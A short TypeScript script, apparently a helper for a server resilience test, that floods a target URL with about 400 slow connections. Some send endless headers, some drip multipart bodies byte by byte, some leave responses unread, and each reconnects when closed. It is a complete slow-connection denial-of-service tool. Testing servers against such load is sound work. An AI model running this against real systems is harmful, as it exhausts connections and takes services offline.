import { connect } from 'node:net'

const [url, file] = process.argv.slice(2).map((url) => new URL(url!)) as [URL, URL]
const head = (line: string) => `${line} HTTP/1.1\r\nHost: ${url.host}\r\n`
const form = `Content-Type: multipart/form-data; boundary=x\r\nContent-Length: 1000000\r\n\r\n--x\r\n`

/** Heads that do not end, bodies that do not end, unread answers: kept up, so that closed connections are opened again. */
const starts = [
  ...Array.from({ length: 130 }, () => `${head('GET /livez')}X-Slow: `),
  ...Array.from({ length: 130 }, () => `${head('POST /v1/video-ai')}${form}`),
  ...Array.from({ length: 140 }, () => `${head(`GET ${file.pathname}${file.search}`)}\r\n`),
]
const dripMs = 250
let open = 0

function call(start: string): void {
  const socket = connect(Number(url.port), url.hostname)
  socket.pause()
  socket.write(start)
  const dripping = start.endsWith('\r\n\r\n') ? undefined : setInterval(() => socket.write('x'), dripMs)
  socket.on('connect', () => ++open === starts.length && process.send!('open'))
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(dripping)
    call(start)
  })
}
for (const start of starts) call(start)
